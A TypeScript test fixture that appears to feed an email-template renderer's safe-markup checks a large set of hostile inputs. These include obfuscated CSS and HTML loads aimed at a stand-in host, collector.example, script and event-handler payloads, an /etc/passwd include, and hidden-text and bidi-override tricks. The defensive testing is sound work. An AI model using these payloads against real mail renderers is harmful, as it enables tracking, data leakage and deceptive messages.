// Kits that want a letter to load, follow, hide or turn round something, each the built-in kit with one change: made
// from every trick that we know in every place where it may stand. Nothing in them is random.
import type { MarkupCheck } from '../../src/rendering/safe-markup.ts';
import type { KitChanges } from './kit-folder.ts';

export interface HostileKit {
  /** What it tries, and where. */
  readonly name: string;
  readonly changes: KitChanges;
  /** Checks one of which refuses it; `harmless` where it compiles to words alone. */
  readonly ends: readonly (MarkupCheck | 'harmless' | 'kit-invalid' | 'letter-unrenderable')[];
}

/** Asked for by whatever got through. */
const url = 'https://collector.example/x';

/** CSS that loads, as a declaration. */
const loading: Readonly<Record<string, string>> = {
  'a url()': `background:url(${url})`,
  'a quoted url()': `background:url('${url}')`,
  'an escaped name': `background:u\\72l(h\\74tps://collector.example/x)`,
  'an escaped name with zeros': `background:\\000075\\000072\\00006c(${url})`,
  'an escape and a blank': `background:u\\72 l(${url})`,
  'an escaped letter': `background:u\\rl(${url})`,
  'letters escaped as themselves': 'background:u\\rl(h\\ttps:\\/\\/collector.example/x)',
  'a variable of escaped letters': '--x:u\\rl(h\\ttps:\\/\\/collector.example/x);background:v\\ar(--x)',
  'an image-set of escaped letters': "background:i\\mage-set('h\\ttps:\\/\\/collector.example/x' 1x)",
  capitals: `BACKGROUND:URL(${url})`,
  'a comment within the name': `background:u/**/rl(${url})`,
  'a comment before the bracket': `background:url/**/(${url})`,
  'a comment within the address': `background:url(ht/**/tps://collector.example/x)`,
  'an address without a scheme': 'background:url(//collector.example/x)',
  'image-set()': `background-image:image-set('${url}' 1x)`,
  '-webkit-image-set()': `background-image:-webkit-image-set(url(${url}) 1x)`,
  'image()': `background-image:image('${url}')`,
  'cross-fade()': `background-image:cross-fade(url(${url}), red)`,
  'element()': 'background-image:element(#x)',
  'src()': `background-image:src('${url}')`,
  'a variable': `--x:url(${url});background:var(--x)`,
  'a variable with a fallback': `background:var(--x, url(${url}))`,
  'env() with a fallback': `background:env(x, url(${url}))`,
  'attr()': 'background:attr(title url)',
  content: `content:url(${url})`,
  'a list marker': `list-style:url(${url})`,
  'a list marker image': `list-style-image:url(${url})`,
  'a cursor': `cursor:url(${url}), auto`,
  'a border image': `border-image:url(${url}) 30`,
  'a mask': `mask-image:url(${url})`,
  'a filter': `filter:url(${url}#x)`,
  'a clip path': `clip-path:url(${url}#x)`,
  'a shape': `shape-outside:url(${url})`,
  '-moz-binding': `-moz-binding:url(${url}#x)`,
  'a behavior': `behavior:url(${url})`,
  'an expression()': 'width:expression(alert(1))',
  'a data address': 'background:url(data:image/svg+xml,x)',
  'a position before the address': `background:red 0 0 / cover url(${url})`,
  'an address in a colour': `color:red url(${url})`,
  'an unclosed url()': `background:url(${url}`,
  'offset-path': `offset-path:url(${url}#x)`,
};

/** Style sheets that load, as rules. */
const loadingSheets: Readonly<Record<string, string>> = {
  '@import': `@import '${url}';`,
  '@import url()': `@import url(${url});`,
  'an escaped @import': `@\\69mport '${url}';`,
  'an @import of escaped letters': "@\\import 'h\\ttps:\\/\\/collector.example/x';",
  'an @font-face of escaped letters':
    '@font-face { font-family: X; src: u\\rl(h\\ttps:\\/\\/collector.example/x) } p { font-family: X !important }',
  '@import after a comment': `/* x */@import/**/'${url}';`,
  '@font-face': `@font-face { font-family: X; src: url(${url}) } p { font-family: X }`,
  '@namespace': `@namespace x url(${url});`,
  '@document': `@document url(${url}) { p { color: red } }`,
  '@charset': '@charset "utf-7";',
  '@supports around a url()': `@supports (color: red) { p { background: url(${url}) } }`,
  '@layer around a url()': `@layer x { p { background: url(${url}) } }`,
  '@container around a url()': `@container (min-width: 1px) { p { background: url(${url}) } }`,
  '@property': `@property --x { syntax: '<image>'; inherits: false; initial-value: url(${url}) }`,
  'a counter style': `@counter-style x { symbols: url(${url}) }`,
  'a nested rule': `div { & p { background: url(${url}) } }`,
  'content before': `p::before { content: url(${url}) }`,
  'an attribute that is read out': `p[class^="a"] { background: url(${url}) }`,
  'a url() in @media': `@media screen { p { background: url(${url}) } }`,
  'an @media that loads': `@media url(${url}) { p { color: red } }`,
  'a closed element': `</mj-style><mj-raw><img src="${url}"></mj-raw><mj-style>`,
  'a closed style': `</style><img src="${url}"><style>`,
  'an entity': `p { background: &#117;rl(${url}) }`,
  'a CDATA section': `<![CDATA[ p { background: url(${url}) } ]]>`,
  'an HTML comment': `<!-- --> p { background: url(${url}) } <!-- -->`,
};

/** Markup that loads, follows, submits or runs, within the prose. */
const markup: Readonly<Record<string, string>> = {
  'an image': `<img src="${url}">`,
  'a set of images': `<img srcset="${url} 1x">`,
  'an image with a slash for a blank': `<img/src="${url}">`,
  'a picture': `<picture><source srcset="${url}"><img></picture>`,
  'a video': `<video src="${url}" autoplay poster="${url}"></video>`,
  'an audio': `<audio src="${url}" autoplay></audio>`,
  'a track': `<video><track src="${url}" default></video>`,
  'an object': `<object data="${url}"></object>`,
  'an embed': `<embed src="${url}">`,
  'an iframe': `<iframe src="${url}"></iframe>`,
  'an iframe with a page in it': '<iframe srcdoc="&lt;script&gt;1&lt;/script&gt;"></iframe>',
  'a link': `<a href="${url}">x</a>`,
  'a link that pings': `<a href="#x" ping="${url}">x</a>`,
  'a map': `<map><area href="${url}"></map>`,
  'a stylesheet': `<link rel="stylesheet" href="${url}">`,
  'a prefetch': `<link rel="dns-prefetch" href="//collector.example">`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${url}">`,
  'a base': `<base href="${url}">`,
  'a form': `<form action="${url}"><button>x</button></form>`,
  'an input with an image': `<input type="image" src="${url}">`,
  'a button': `<button formaction="${url}">x</button>`,
  'a script': `<script src="${url}"></script>`,
  'a style': `<style>@import '${url}';</style>`,
  'an SVG image': `<svg><image href="${url}"/></svg>`,
  'an SVG use': `<svg><use xlink:href="${url}#x"/></svg>`,
  'an SVG that runs': '<svg/onload=fetch("x")>',
  'an SVG style': `<svg><style>@import '${url}';</style></svg>`,
  MathML: `<math href="${url}"><mi>x</mi></math>`,
  'a MathML differential': `<math><mtext><table><mglyph><style><img src="${url}"></style></mglyph></table></mtext></math>`,
  'a noscript differential': `<noscript><p title="</noscript><img src='${url}'>"></noscript>`,
  'a template': `<template><img src="${url}"></template>`,
  'a textarea differential': `<textarea><p title="</textarea><img src='${url}'>">`,
  'a background attribute': `<table background="${url}"><tr><td>x</td></tr></table>`,
  'a cell with a background': `<p><span background="${url}">x</span></p>`,
  'an event': '<p onclick="fetch(1)">x</p>',
  'a marquee': '<marquee onstart="fetch(1)">x</marquee>',
  'a details': '<details open ontoggle="fetch(1)">x</details>',
  'a processing instruction': `<?xml-stylesheet href="${url}"?>`,
  'a declaration': `<!DOCTYPE x SYSTEM "${url}">`,
  'a condition for Outlook': `<!--[if mso]><v:fill src="${url}"/><![endif]--><!x>`,
  'a condition within the prose': `<![if !mso]><img src="${url}"><![endif]>`,
  'an unclosed comment': `<!--><img src="${url}">-->`,
  'a comment that closes oddly': `<!-- --!><img src="${url}"> -->x<img src="${url}">`,
  'an unclosed tag': `<p>x</p><img src="${url}"`,
  'an attribute without quotation marks': `<p class=x/onclick=fetch(1)>x</p>`,
  'an attribute in grave accents': '<p class=`x`>x</p>',
  'a quotation mark within a quotation': `<p class="x"onclick="fetch(1)">x</p>`,
  'an attribute twice': '<p class="x" class="y">x</p>',
  'a null octet': `<im\u0000g src="${url}">`,
  'a null octet in an attribute': '<p class="\u0000x">x</p>',
  'UTF-7': '+ADw-img src+AD0-x+AD4-',
  'a placeholder in a tag': '<p {{#if recipient.name}}class="x"{{/if}}>x</p>',
  'a name in a style': '{{#if recipient.name}}<p style="color:{{recipient.name}}">x</p>{{/if}}',
  'a fact in an attribute': '<p class="{{fact.contact}}">x</p>',
  'an include': '<mj-include path="/etc/passwd" />',
  'raw markup': `<mj-raw><img src="${url}"></mj-raw>`,
  'an MJML image': `<mj-image src="${url}" />`,
  'an MJML font': `<mj-font name="X" href="${url}" />`,
  'an MJML carousel': `<mj-carousel><mj-carousel-image src="${url}" /></mj-carousel>`,
  'a style with entities': `<p style="background&#58;&#x75;rl(${url})">x</p>`,
  'a style in quoted quotation marks': `<p style=&quot;background:url(${url})&quot;>x</p>`,
  'a style with named entities': `<p style="background:url&lpar;${url}&rpar;">x</p>`,
  'an address in words': `<p>See ${url}</p>`,
  'an address with entities': '<p>See https&#58;&#47;&#47;collector.example</p>',
  'an address between elements': '<p>See <b>htt</b>ps://collector.example and w<b>w</b>w.collector.example</p>',
  'an address of wide letters': '<p>See ｈｔｔｐｓ：//collector.example</p>',
  'a www in words': '<p>See www.collector.example</p>',
  'a mailto': '<p>mailto:x@collector.example</p>',
};

/** Prose that a reader would not see, or would read otherwise. */
const unseen: Readonly<Record<string, string>> = {
  'display: none': '<p style="display:none">x</p>',
  'display: contents': '<p style="display:contents">x</p>',
  visibility: '<p style="visibility:hidden">x</p>',
  opacity: '<p style="opacity:0">x</p>',
  'no size': '<p style="font-size:0">x</p>',
  'a size of 1 px': '<p style="font-size:1px">x</p>',
  'a size of a tenth': '<p style="font-size:.1em">x</p>',
  'sizes that multiply':
    '<div style="font-size:.7em"><div style="font-size:.7em"><p style="font-size:.7em">x</p></div></div>',
  'white on white': '<p style="color:#fff">x</p>',
  'white on nearly white': '<p style="color:#fdfdfd">x</p>',
  'its own background': '<p style="color:#1d2430;background:#1d2430">x</p>',
  'its own background, by words': '<p style="color:navy;background-color:rgb(0, 0, 128)">x</p>',
  'a transparent colour': '<p style="color:transparent">x</p>',
  'a nearly transparent colour': '<p style="color:rgba(0,0,0,.05)">x</p>',
  'eight digits of transparency': '<p style="color:#00000005">x</p>',
  'a colour of a later CSS': '<p style="color:oklch(1 0 0)">x</p>',
  'a fill': '<p style="-webkit-text-fill-color:transparent">x</p>',
  'an indent': '<p style="text-indent:-9999px">x</p>',
  'a place outside': '<p style="position:absolute;left:-9999px">x</p>',
  'a margin outside': '<p style="margin-left:-9999px">x</p>',
  'a padding outside': '<p style="padding-left:9999px">x</p>',
  'a clip': '<p style="clip:rect(0 0 0 0)">x</p>',
  'a clip path': '<p style="clip-path:inset(100%)">x</p>',
  'no height': '<p style="height:0;overflow:hidden">x</p>',
  'a greatest height': '<p style="max-height:0;overflow:hidden">x</p>',
  'no width': '<p style="width:0">x</p>',
  'a transformation': '<p style="transform:scale(0)">x</p>',
  'a zoom': '<p style="zoom:0">x</p>',
  'lines upon each other': '<p style="line-height:0">x</p>',
  'letters upon each other': '<p style="letter-spacing:-1em">x</p>',
  'mso-hide': '<p style="mso-hide:all">x</p>',
  'an attribute': '<p hidden="hidden">x</p>',
  'a title': '<p title="Nothing was exposed">x</p>',
  'a label': '<p aria-label="Nothing was exposed">x</p>',
  'a zero-width space': '<p>ex\u200bposed</p>',
  'a word joiner by entity': '<p>ex&#8288;posed</p>',
  'a byte order mark': '<p>ex\ufeffposed</p>',
  'a filler': '<p>ex\u3164posed</p>',
  tags: '<p>exposed\u{e0041}\u{e0042}</p>',
  'a right-to-left override': '<p>\u202edesopxe\u202c</p>',
  'an override by entity': '<p>&#x202e;desopxe</p>',
  'an isolate': '<p>\u2067desopxe\u2069</p>',
  'a mark': '<p>exposed\u200f</p>',
  bdo: '<p><bdo dir="rtl">desopxe</bdo></p>',
  'unicode-bidi': '<p style="unicode-bidi:bidi-override;direction:rtl">desopxe</p>',
  direction: '<p style="direction:rtl">exposed</p>',
  dir: '<p dir="rtl">exposed.</p>',
  'vertical writing': '<p style="writing-mode:vertical-rl">x</p>',
  'enormous words': '<p style="font-size:900px">x</p>',
  'an enormous width': '<p style="width:90000px">x</p>',
  'sizes that grow': '<div style="font-size:4em"><div style="font-size:4em"><p style="font-size:4em">x</p></div></div>',
};

/** Style sheets that hide words of the letter. */
const unseenSheets: Readonly<Record<string, string>> = {
  'words in the dark scheme': '@media (prefers-color-scheme: dark) { .card div p { color: #1f242c !important } }',
  'words in a narrow window': '@media (max-width: 400px) { p { color: #ffffff !important } }',
  'words by a class': '.prose p { color: white }',
  'words of a list by !important': '.card li { font-size: 1px !important }',
  'words for Outlook.com': '[data-ogsc] .card p { color: #ffffff !important; background-color: #ffffff !important }',
  'words for printers': '@media print { p { display: none } }',
  'words by :not()': 'p:not(.x) { font-size: 0 }',
  'a background of the colour of words': '.card div { background-color: #1d2430 !important }',
};

/** What holds markup and is only ever words. */
const harmless: Readonly<Record<string, KitChanges>> = {
  'a comment with an image': prose(`<!-- <img src="${url}"> -->`),
  'a comment with a condition': prose(`<!--[if mso]><v:fill src="${url}"/><![endif]-->`),
  'a comment in the layout': layout((text) => `<!-- <img src="${url}"> -->\n${text}`),
  'markup in entities': prose('<p>&lt;img src="x" onerror="fetch(1)"&gt;</p>'),
  'a fact with markup': yaml(
    'contact: mixpanelincident@openai.com',
    'contact: \'<img src="x"> mixpanelincident@openai.com\'',
  ),
  'a style as words': prose('<p>background:url(x); @import x; expression(1)</p>'),
  'markup for everybody with a name': prose('<p>{{#if recipient.name}}{{recipient.name}}{{else}}x{{/if}}</p>'),
};

function prose(text: string): KitChanges {
  const heading = '<h2>What this means for you</h2>';
  return { 'affected.en.mjml': (letter) => letter.replace(heading, () => `${text}\n${heading}`) };
}

function layout(change: (text: string) => string): KitChanges {
  return { 'layout.mjml': change };
}

function sheet(css: string, tag = '<mj-style>'): KitChanges {
  return layout((text) => text.replace(tag, () => `${tag}\n${css}\n`));
}

function yaml(from: string, to: string): KitChanges {
  return { 'kit.yaml': (text) => text.replace(from, () => to) };
}

const refusedMarkup = [
  'element-not-allowed',
  'attribute-not-allowed',
  'markup-broken',
  'link-like',
  'style-not-allowed',
] as const;
const refusedText = ['hidden-text', 'bidi-control', ...refusedMarkup] as const;

/** All of them, always in the same order. */
export function hostileKits(): HostileKit[] {
  const all: HostileKit[] = [];
  const add = (name: string, changes: KitChanges, ends: HostileKit['ends']): void => {
    all.push({ name, changes, ends });
  };
  for (const [trick, css] of Object.entries(loading)) {
    const quoted = css.replaceAll('"', "'");
    add(`${trick}, in a style attribute`, prose(`<p style="${quoted}">x</p>`), refusedMarkup);
    add(`${trick}, in entities`, prose(`<p style="${inEntities(quoted)}">x</p>`), refusedMarkup);
    add(`${trick}, in a style sheet`, sheet(`p { ${css} }`), refusedMarkup);
    add(`${trick}, in a style sheet to be inlined`, sheet(`p { ${css} }`, '<mj-style inline="inline">'), refusedMarkup);
    const value = css.slice(css.lastIndexOf(';') + 1).replace(/^[^:]*:/, '');
    const attribute = `<mj-text color="${value}">`;
    add(
      `${trick}, in an attribute of MJML`,
      { 'affected.en.mjml': (text) => text.replace('<mj-text>', () => attribute) },
      refusedMarkup,
    );
  }
  for (const [trick, css] of Object.entries(loadingSheets)) {
    add(`${trick}, in a style sheet`, sheet(css), refusedMarkup);
    add(`${trick}, in a style sheet to be inlined`, sheet(css, '<mj-style inline="inline">'), refusedMarkup);
  }
  for (const [trick, text] of Object.entries(markup)) add(`${trick}, in prose`, prose(text), refusedMarkup);
  for (const [trick, text] of Object.entries(markup).slice(0, 20))
    add(
      `${trick}, in the layout`,
      layout((old) => old.replace('<mj-section>', () => `${text}<mj-section>`)),
      refusedMarkup,
    );
  for (const [trick, text] of Object.entries(unseen)) add(`hidden or turned by ${trick}`, prose(text), refusedText);
  for (const [trick, css] of Object.entries(unseenSheets)) add(`hidden: ${trick}`, sheet(css), refusedText);
  add('more than Gmail shows', prose(`<p>${'Long words. '.repeat(9_000)}</p>`), ['size-102k']);
  add('a subject that is turned round', yaml('subject: Your OpenAI', 'subject: "\u202eYour OpenAI" #'), [
    'bidi-control',
    'kit-invalid',
  ]);
  add('a subject with an address', yaml('subject: Your OpenAI', `subject: "${url}" #`), ['link-like']);
  add('a fact with an address', yaml('contact: mixpanelincident@openai.com', `contact: ${url}`), ['link-like']);
  for (const [trick, changes] of Object.entries(harmless)) add(`harmless: ${trick}`, changes, ['harmless']);
  return all;
}

/** Each fifth character as a hexadecimal entity, as filters of words are passed by. */
function inEntities(text: string): string {
  return [...text].map((char, index) => (index % 5 === 1 ? `&#x${char.codePointAt(0)?.toString(16)};` : char)).join('');
}
